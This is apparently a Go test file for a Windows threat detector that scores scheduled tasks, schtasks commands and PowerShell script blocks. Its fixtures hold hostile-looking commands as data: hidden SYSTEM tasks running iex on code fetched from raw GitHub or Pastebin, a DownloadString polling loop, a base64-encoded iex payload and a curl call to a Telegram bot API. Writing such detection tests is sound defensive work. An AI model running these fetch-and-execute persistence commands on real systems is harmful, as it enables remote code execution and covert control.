package detect

import (
	"errors"
	"html"
	"math/rand"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// taskXMLFor writes a task definition in the Task Scheduler's schema, the
// way 4698 carries it once decoded: trigger is the Triggers element's
// content.
func taskXMLFor(author, uri, trigger, hidden, command, args string) string {
	return `<?xml version="1.0" encoding="UTF-16"?>` + "\r\n" +
		`<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">` + "\r\n" +
		`  <RegistrationInfo><Date>2026-11-20T09:14:02</Date><Author>` + author + `</Author><URI>` + uri + `</URI></RegistrationInfo>` + "\r\n" +
		`  <Triggers>` + trigger + `</Triggers>` + "\r\n" +
		`  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>` + "\r\n" +
		`  <Settings><MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy><Hidden>` + hidden + `</Hidden><Enabled>true</Enabled></Settings>` + "\r\n" +
		`  <Actions Context="Author"><Exec><Command>` + html.EscapeString(command) + `</Command><Arguments>` + html.EscapeString(args) + `</Arguments></Exec></Actions>` + "\r\n" +
		`</Task>`
}

const hourly = `<TimeTrigger><Repetition><Interval>PT1H</Interval><StopAtDurationEnd>false</StopAtDurationEnd></Repetition><StartBoundary>2026-11-20T09:15:00</StartBoundary><Enabled>true</Enabled></TimeTrigger>`

func TestParseTaskXML(t *testing.T) {
	iex := `-NoProfile -WindowStyle Hidden -Command "iex(iwr https://raw.githubusercontent.com/x/y/main/a.ps1 -UseBasicParsing)"`
	plain := taskXMLFor(`CORP\jdoe`, `\Updater`, hourly, "true", "powershell.exe", iex)
	tests := []struct {
		name, reason string
		content      string
		want         Task
		err          error
	}{
		{"decoded", "the value as the add-on or this app's EVAL leaves it", plain,
			Task{Name: `\Updater`, Author: `CORP\jdoe`, Command: "powershell.exe", Arguments: iex, Every: 3600, Hidden: true, RunAs: "S-1-5-18", Source: "TaskContent"}, nil},
		{"still escaped", "an extraction that copies the value verbatim: entities one level deep, CR LF as &#xD;&#xA;",
			strings.ReplaceAll(html.EscapeString(plain), "\r\n", "&#xD;&#xA;"),
			Task{Name: `\Updater`, Author: `CORP\jdoe`, Command: "powershell.exe", Arguments: iex, Every: 3600, Hidden: true, RunAs: "S-1-5-18", Source: "TaskContent"}, nil},
		{"daily", "a calendar trigger without repetition does not repeat within a day",
			taskXMLFor(`CORP\it`, `\GoogleUpdateTaskMachineCore`, `<CalendarTrigger><StartBoundary>2026-11-20T03:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>`, "false", `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "/c"),
			Task{Name: `\GoogleUpdateTaskMachineCore`, Author: `CORP\it`, Command: `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, Arguments: "/c", RunAs: "S-1-5-18", Source: "TaskContent"}, nil},
		{"shortest repetition", "two triggers: the shorter interval is how often it asks",
			taskXMLFor("a", `\t`, hourly+`<LogonTrigger><Repetition><Interval>PT5M</Interval></Repetition></LogonTrigger>`, "false", "x.exe", ""),
			Task{Name: `\t`, Author: "a", Command: "x.exe", Every: 300, RunAs: "S-1-5-18", Source: "TaskContent"}, nil},
		{"no exec action", "a COM handler action runs no command line",
			`<Task><Actions><ComHandler><ClassId>{x}</ClassId></ComHandler></Actions></Task>`, Task{}, ErrTask},
		{"not xml", "garbage is an error, not an empty task", `<Task><Actions>`, Task{}, ErrTask},
		{"escaped element", "an escaped value must hold text only", `&lt;Task&gt;<b>x</b>`, Task{}, ErrTask},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			got, err := ParseTaskXML([]byte(tt.content))
			if tt.err != nil {
				require.True(t, errors.Is(err, tt.err), "%v", err)
				return
			}
			require.NoError(t, err)
			require.Equal(t, tt.want, got, tt.reason)
		})
	}
}

func TestParseSchtasks(t *testing.T) {
	tests := []struct {
		name, reason, cmd string
		ok                bool
		want              Task
	}{
		{"minute", "/sc minute /mo 30: every 30 minutes; /tr split into program and arguments",
			`schtasks /create /tn "\Microsoft\Windows\Sync" /tr "powershell.exe -w hidden -c iex(iwr https://pastebin.com/raw/abc)" /sc minute /mo 30 /ru SYSTEM /f`,
			true, Task{Name: `\Microsoft\Windows\Sync`, Command: "powershell.exe", Arguments: "-w hidden -c iex(iwr https://pastebin.com/raw/abc)", Every: 1800, RunAs: "SYSTEM", Source: "schtasks"}},
		{"hourly default", "/sc hourly without /mo is every hour; '-' works as '/'",
			`SCHTASKS.EXE -Create -TN upd -TR "\"C:\Program Files\x\a.exe\" --sync" -SC HOURLY`,
			true, Task{Name: "upd", Command: `C:\Program Files\x\a.exe`, Arguments: "--sync", Every: 3600, Source: "schtasks"}},
		{"daily with /ri", "a repetition interval in minutes on a daily task",
			`schtasks /create /tn t /tr c:\x.exe /sc daily /ri 10 /du 24:00`, true, Task{Name: "t", Command: `c:\x.exe`, Every: 600, Source: "schtasks"}},
		{"daily", "daily does not repeat within a day", `schtasks /create /tn t /tr c:\x.exe /sc daily`, true, Task{Name: "t", Command: `c:\x.exe`, Source: "schtasks"}},
		{"query", "not a creation", `schtasks /query /tn t`, false, Task{}},
		{"xml", "a definition from a file names no action here", `schtasks /create /tn t /xml c:\t.xml`, false, Task{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			got, ok := ParseSchtasks([]byte(tt.cmd))
			require.Equal(t, tt.ok, ok)
			require.Equal(t, tt.want, got, tt.reason)
		})
	}
}

func TestTempWrite(t *testing.T) {
	tests := []struct {
		name, path string
		want       bool
		reason     string
	}{
		{"curl output", `C:\Users\jdoe\AppData\Local\Temp\tg.json`, true, "a fetched response saved in %TEMP%"},
		{"public", `C:\Users\Public\Downloads\u.ps1`, true, "Public is writable by every user"},
		{"policy test", `C:\Users\jdoe\AppData\Local\Temp\__PSScriptPolicyTest_dfz15bah.1xr.ps1`, false, "PowerShell's execution-policy probe, at every start"},
		{"add-type", `C:\Users\IEUser\AppData\Local\Temp\phvj2yfb\phvj2yfb.dll`, false, "Add-Type compiling C#: folder and file share a random name"},
		{"add-type cmdline", `C:\Users\IEUser\AppData\Local\Temp\phvj2yfb\phvj2yfb.0.cs`, false, "the same compilation's source"},
		{"program files", `C:\Program Files\App\cache.bin`, false, "not a temp or public folder"},
		{"eight letters elsewhere", `C:\Users\jdoe\AppData\Local\Temp\payloads\abcdefgh.exe`, true, "only a folder named as its file is Add-Type's"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.Equal(t, tt.want, TempWrite([]byte(tt.path)), tt.reason)
		})
	}
	path := []byte(`C:\Users\jdoe\AppData\Local\Temp\tg.json`)
	require.Zero(t, testing.AllocsPerRun(100, func() { TempWrite(path) }), "the map phase calls it on every file event")
}

func TestScriptCode(t *testing.T) {
	tests := []struct {
		name, script, want, reason string
	}{
		{"help block", "<#\n.LINK\nhttps://github.com/x/y\n#>\nGet-Date", " \nGet-Date", "comment-based help names project pages"},
		{"line comment", "# see https://github.com/x\n  # more\niwr https://pastebin.com/raw/a", "\n\niwr https://pastebin.com/raw/a", "a line that starts with #"},
		{"inline block", "$a = 1 <# https://github.com #> ; iex $a", "$a = 1   ; iex $a", "a block comment after code"},
		{"hash in a string", "iwr 'https://x.example/#frag'", "iwr 'https://x.example/#frag'", "# inside a line is no comment here"},
		{"unclosed", "iex $x <# never closed", "iex $x ", "an unclosed block ends the code"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.Equal(t, tt.want, string(scriptCode(nil, []byte(tt.script))), tt.reason)
		})
	}
}

func TestExcerpt(t *testing.T) {
	text := []byte("while ($true) {\n    $c = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk2pQ9vB')\n    iex $c\n    Start-Sleep 300\n}")
	at := strings.Index(string(text), "https://")
	require.Equal(t, "while ($true) { $c = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk2pQ9vB') iex $c Start-Sleep 300 }",
		Excerpt(text, at, 200), "white space runs become one space; all of it when it fits")
	short := Excerpt(text, at, 60)
	require.True(t, strings.HasPrefix(short, "…") && strings.HasSuffix(short, "…"), short)
	require.Contains(t, short, "https://pastebin.com", "the window starts a little before what matters")
	require.LessOrEqual(t, len(short), 60+2*len("…"))
}

// TestScriptBlock: a PowerShell run from a file says nothing in its command
// line; its script block (4104) says what it ran.
func TestScriptBlock(t *testing.T) {
	d := testDetector(t)
	w := d.Weights()
	ps := b(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`)
	fileRun := b(`powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File C:\Users\Public\sync.ps1`)
	loop := b("while ($true) {\r\n  $c = (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/Xk2pQ9vB')\r\n  iex $c\r\n  Start-Sleep -Seconds 300\r\n}")
	rng := rand.New(rand.NewSource(3))
	poll := every(rng, 0, 86400, 300, 0.1, true)
	tests := []judgeCase{
		{
			name: "file run, connections only", reason: "the baseline: hidden PowerShell polling Pastebin, nothing on what it runs",
			a: Activity{Process: Event{Image: ps, CommandLine: fileRun}, Category: "pastebin", Hosts: [][]byte{b("pastebin.com")}, Requests: poll},
			check: func(t *testing.T, r *Result) {
				require.Empty(t, r.DownloadExecute)
				require.False(t, r.Script)
				require.Equal(t, w.Class["script_engine"]+w.Service+w.Polling+w.HiddenWindow+w.TempFile+w.TagCC*B2I(hasCC(r)), r.RiskScore, "%q", strs(r.Reasons))
			},
		},
		{
			name: "file run with its script block", reason: "the block shows the download run by iex and the raw paste",
			a: Activity{Process: Event{Image: ps, CommandLine: fileRun, ScriptBlock: loop, ScriptPath: b(`C:\Users\Public\sync.ps1`)}, Category: "pastebin",
				Hosts: [][]byte{b("pastebin.com")}, Requests: poll},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Script)
				require.NotEmpty(t, r.DownloadExecute)
				require.True(t, r.RawContent)
				require.Equal(t, 100, r.RiskScore)
				require.Contains(t, strings.Join(strs(r.Reasons), "|"), `script block (C:\Users\Public\sync.ps1): "`)
				require.Contains(t, strings.Join(strs(r.Reasons), "|"), "pastebin named in the ScriptBlockText")
			},
		},
		{
			name: "block of an unknown process", reason: "a block whose process is unknown: the script alone, no image",
			a: Activity{Process: Event{Host: b("WKS-1"), User: b("S-1-5-21-1-2-3-1104"), ScriptBlock: loop}, Category: "pastebin"},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Pass)
				require.Equal(t, "ScriptBlockText", r.SeenIn)
			},
		},
		{
			name: "help text only", reason: "a module's comment-based help names GitHub: no request, no row's evidence",
			a: Activity{Process: Event{Image: ps, CommandLine: b("powershell.exe -NoProfile -File C:\\Scripts\\inventory.ps1"),
				ScriptBlock: b("<#\n.SYNOPSIS\nInventory.\n.LINK\nhttps://github.com/contoso/inventory\n#>\nGet-CimInstance Win32_OperatingSystem | Export-Csv C:\\Reports\\os.csv")}, Category: "github"},
			check: func(t *testing.T, r *Result) {
				require.Empty(t, r.Category, "%q", strs(r.Reasons))
				require.False(t, r.Pass)
			},
		},
		{
			name: "admin script fetching a release asset", reason: "an artifact URL in a script: context, no alert",
			a: Activity{Process: Event{Image: ps, CommandLine: b(`powershell.exe -NoProfile -File C:\Scripts\update-tools.ps1`), User: b(`CORP\admin`),
				ScriptBlock: b("$v = '2.47.1'\nInvoke-WebRequest -Uri \"https://github.com/git-for-windows/git/releases/download/v$v.windows.1/MinGit-$v-64-bit.zip\" -OutFile \"$env:TEMP\\mingit.zip\"\nExpand-Archive \"$env:TEMP\\mingit.zip\" C:\\Tools\\git -Force")},
				Category: "github", Hosts: [][]byte{b("github.com")}, Requests: []float64{100, 101}},
			check: func(t *testing.T, r *Result) {
				require.Equal(t, "artifact_download", r.ContextKind, "%q", strs(r.Reasons))
				require.False(t, r.Pass)
			},
		},
		{
			name: "encoded command inside a script", reason: "a base64 PowerShell command in a block decodes and is judged",
			a: Activity{Process: Event{Image: ps, ScriptBlock: b("$e = 'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHAAYQBzAHQAZQBiAGkAbgAuAGMAbwBtAC8AcgBhAHcALwBhACkA'\npowershell -nop -e $e")}, Category: "pastebin"},
			check: func(t *testing.T, r *Result) {
				require.True(t, r.Encoded, "%q", strs(r.Reasons))
				require.Contains(t, string(r.Decoded), "pastebin.com/raw/a")
				require.True(t, r.Pass)
			},
		},
		{
			name: "curl's response file", reason: "Sysmon 11: the fetched body written to %TEMP%, as -o %TEMP% says on a command line",
			a: Activity{Process: Event{Image: b(`C:\Windows\System32\curl.exe`), CommandLine: b(`curl.exe -s -o tg.json https://api.telegram.org/bot1:x/getUpdates`),
				Written: b(`C:\Users\jdoe\AppData\Local\Temp\tg.json`)}, Category: "telegram", Hosts: [][]byte{b("api.telegram.org")}},
			check: func(t *testing.T, r *Result) {
				require.NotEmpty(t, r.TempPlace)
				require.Contains(t, strings.Join(strs(r.Reasons), "|"), `wrote C:\Users\jdoe\AppData\Local\Temp\tg.json`)
			},
		},
		{
			name: "response file and -o %TEMP%", reason: "the same evidence from both sources counts once: same risk, not more",
			a: Activity{Process: Event{Image: b(`C:\Windows\System32\curl.exe`), CommandLine: b(`curl.exe -s -o %TEMP%\tg.json https://api.telegram.org/bot1:x/getUpdates`),
				Written: b(`C:\Users\jdoe\AppData\Local\Temp\tg.json`)}, Category: "telegram", Hosts: [][]byte{b("api.telegram.org")}},
			check: func(t *testing.T, r *Result) {
				n := 0
				for _, rs := range strs(r.Reasons) {
					if strings.Contains(rs, "temp or public folder") {
						n++
					}
				}
				require.Equal(t, 1, n, "%q", strs(r.Reasons))
			},
		},
	}
	runJudge(t, d, tests)
}

// TestJudgeTask: a task's creation is judged before it first runs.
func TestJudgeTask(t *testing.T) {
	d := testDetector(t)
	w := d.Weights()
	iex := `-NoProfile -WindowStyle Hidden -Command "iex(iwr https://raw.githubusercontent.com/x/y/main/a.ps1 -UseBasicParsing)"`
	task, err := ParseTaskXML([]byte(taskXMLFor(`CORP\jdoe`, `\Updater`, hourly, "true", "powershell.exe", iex)))
	require.NoError(t, err)
	daily := `<CalendarTrigger><StartBoundary>2026-11-20T03:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>`
	update, err := ParseTaskXML([]byte(taskXMLFor(`CORP\it`, `\ToolsUpdate`, daily, "false", "powershell.exe",
		`-NoProfile -Command "Invoke-WebRequest https://github.com/git-for-windows/git/releases/download/v2.47.1.windows.1/MinGit-2.47.1-64-bit.zip -OutFile C:\Tools\mingit.zip"`)))
	require.NoError(t, err)
	tests := []struct {
		name, reason string
		task         Task
		check        func(t *testing.T, r *Result)
	}{
		{"iex of raw GitHub every hour", "raised at creation: declared polling, fetch-and-execute, hidden", task, func(t *testing.T, r *Result) {
			require.True(t, r.Pass)
			require.True(t, r.Polled)
			joined := strings.Join(strs(r.Reasons), "|")
			require.Contains(t, joined, `scheduled task \Updater created by CORP\jdoe, runs as S-1-5-18 (TaskContent)`)
			require.Contains(t, joined, `declared polling: task \Updater repeats every 60 min`)
		}},
		{"daily artifact download", "an administrator's task fetching a release asset once a day: no declared polling, context",
			update, func(t *testing.T, r *Result) {
				require.Equal(t, "artifact_download", r.ContextKind, "%q", strs(r.Reasons))
				require.Less(t, r.RiskScore, d.Behaviour().AlertRisk)
				require.False(t, r.Polled)
				require.Equal(t, w.Class["script_engine"]+w.Service+w.CommandLineURL-w.Context["artifact_download"], r.RiskScore, "%q", strs(r.Reasons))
			}},
	}
	s := d.NewScorer()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.NotEmpty(t, tt.reason)
			tk := tt.task
			sc := s.Score(&Event{CommandLine: []byte(tk.CommandLine())})
			a := Activity{Process: Event{Host: b("WKS-1"), User: []byte(tk.Author), Image: []byte(tk.Command), CommandLine: []byte(tk.CommandLine())},
				Category: sc.Category, Task: &tk}
			r := s.Judge(&a)
			tt.check(t, r)
			requireExplained(t, r)
		})
	}
}

func hasCC(r *Result) bool {
	for _, tag := range r.Tags {
		if strings.EqualFold(tag, "C&C") {
			return true
		}
	}
	return false
}

func TestScriptOfInterest(t *testing.T) {
	d := testDetector(t)
	tests := []struct {
		name, script string
		want         bool
		reason       string
	}{
		{"iex of a download", "$c = (New-Object Net.WebClient).DownloadString($u); iex $c", true, "runs what it fetches, the URL elsewhere"},
		{"service named", "$u = 'api.telegram.org/bot1/getUpdates'", true, "a catalogued host without a scheme"},
		{"a URL", "$u = 'https://example.org/x'", true, "any URL may be a service reached by address"},
		{"hidden", "Start-Process powershell -WindowStyle Hidden -ArgumentList $a", true, "a hidden window"},
		{"encoded", "$e = 'SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGcAaQB0AGgAdQBiAC4AYwBvAG0ALwB4ACkA'", true, "a base64 PowerShell command"},
		{"housekeeping", "Get-ChildItem $env:ProgramData -Filter *.log | Remove-Item -Confirm:$false", false, "-Confirm is no irm: nothing fetched, named or run"},
		{"help only", "<#\n.LINK\nhttps://github.com/x/y\n#>\nGet-Date", false, "a URL in help text is no request"},
		{"index", "$index = 0; $firm = 'Contoso'", false, "iex and irm inside words"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			require.Equal(t, tt.want, d.ScriptOfInterest([]byte(tt.script)), tt.reason)
		})
	}
}
